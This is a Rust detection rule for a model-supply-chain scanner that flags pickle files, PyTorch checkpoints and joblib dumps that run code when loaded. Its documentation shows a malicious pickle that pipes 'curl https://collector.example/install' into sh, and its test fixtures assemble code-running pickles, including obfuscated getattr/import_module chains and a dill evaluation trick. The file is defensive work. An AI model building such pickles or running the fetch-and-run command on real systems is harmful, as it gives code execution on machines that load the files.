use stance_core::fact::Artifact;
use stance_inspect::pickle::assemble::{self, Pickle};

use stance_intent::verdict::Kind;
use crate::{Cx, Rule};

rule! {
    /// # Pickle that runs code when it is loaded
    ///
    /// ## What it finds
    /// A pickle stream that calls something able to run a program, run or build code, open a network
    /// connection, or change files, at the moment the file is loaded. The opcode stream is interpreted,
    /// not searched: names that are put together from pieces, reached through `getattr`,
    /// `operator.attrgetter`, `functools.partial` or `importlib.import_module`, or hidden in a pickle
    /// inside the pickle are followed to what they name. It holds for every container that keeps
    /// pickles: bare files, PyTorch checkpoints, joblib dumps, NumPy object arrays.
    ///
    /// Calls that read files or end the process are reported with severity high, calls into packages
    /// outside the standard library that hold both harmless and harmful functions with less confidence.
    ///
    /// ## Why it matters
    /// Loading a pickle runs it. Whoever can change the model file runs commands with the rights of the
    /// training job, the notebook or the inference server that loads it, before any weight is used.
    /// A stream that breaks right behind its payload has still run the payload.
    ///
    /// ## Example
    /// ```text
    /// cos
    /// system
    /// (S'curl https://collector.example/install | sh'
    /// tR.
    /// ```
    /// `pickle.load`, `torch.load(..., weights_only=False)` and `joblib.load` all run that command.
    ///
    /// ## Fix
    /// Do not load the file. Delete it, find out where it came from and whether it was loaded before, and
    /// treat the machines that loaded it as compromised. Get the model again from its publisher, in a
    /// format that holds no code (safetensors, ONNX, GGUF), pinned to a revision you have checked. Load
    /// PyTorch checkpoints with `weights_only=True`.
    ///
    /// ## References
    /// - Python documentation, module `pickle`: warning about untrusted data
    /// - MITRE ATLAS AML.T0011.000, Unsafe AI Artifacts
    /// - CWE-502, Deserialization of Untrusted Data
    PickleExec {
        id: "model/pickle-exec",
        severity: Critical,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-agentic-2026:ASI04",
            "owasp-agentic-2026:ASI05",
            "mitre-atlas:AML.T0011.000",
            "mitre-atlas:AML.T0018.002",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "iso-42001-2023:A.6.2.4",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::text!("model.pkl", "cos\nsystem\n(S'echo'\ntR."),
            crate::made!("weights.bin", || assemble::call("builtins", "exec", "print()")),
            crate::made!("chain.pkl", through_getattr),
            crate::made!("method.pkl", || method_by_dill("<method 'x' of '__import__(\"os\")' objects>")),
            crate::made!("cut.pt", || {
                let mut bytes = assemble::call("subprocess", "check_output", "id");
                bytes.truncate(bytes.len().saturating_sub(1));
                bytes.push(0xff);
                bytes
            }),
        ],
        good: [
            crate::text!("none.pkl", "N."),
            crate::text!("notes.txt", "cos\nsystem\nis a line of an old pickle\n"),
            crate::made!("words.pkl", || Pickle::protocol(4).text("os").text("system").tuple_of(2).stop()),
            crate::made!("estimator.pkl", estimator),
            crate::made!("tokenizer.dill", || method_by_dill("<method 'split' of 'str' objects>")),
        ],
    }
}

impl Rule for PickleExec {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(!artifact.pickles.is_empty());
        super::report(artifact, Kind::Exec, cx);
    }
}

/// `getattr(import_module("o" + "s"), "system")("echo")`.
fn through_getattr() -> Vec<u8> {
    Pickle::protocol(4)
        .global("builtins", "getattr")
        .global("importlib", "import_module")
        .global("operator", "add")
        .text("o")
        .text("s")
        .tuple_of(2)
        .reduce()
        .tuple_of(1)
        .reduce()
        .text("system")
        .tuple_of(2)
        .reduce()
        .text("echo")
        .tuple_of(1)
        .reduce()
        .stop()
}

/// A method of a built-in class, as dill writes it: what stands between the third and the fourth quote is evaluated.
fn method_by_dill(printed: &str) -> Vec<u8> {
    Pickle::protocol(4)
        .stack_global("dill._dill", "_getattr")
        .stack_global("builtins", "str")
        .text("split")
        .text(printed)
        .tuple_of(3)
        .reduce()
        .stop()
}

/// An estimator as scikit-learn pickles it: a class, its state, and an array.
pub(super) fn estimator() -> Vec<u8> {
    Pickle::protocol(4)
        .stack_global("sklearn.linear_model._logistic", "LogisticRegression")
        .raw(b")")
        .new_object()
        .raw(b"}")
        .text("coef_")
        .stack_global("numpy._core.multiarray", "_reconstruct")
        .stack_global("numpy", "ndarray")
        .int(0)
        .tuple_of(1)
        .bytes(b"b")
        .tuple_of(3)
        .reduce()
        .raw(b"s")
        .build()
        .stop()
}
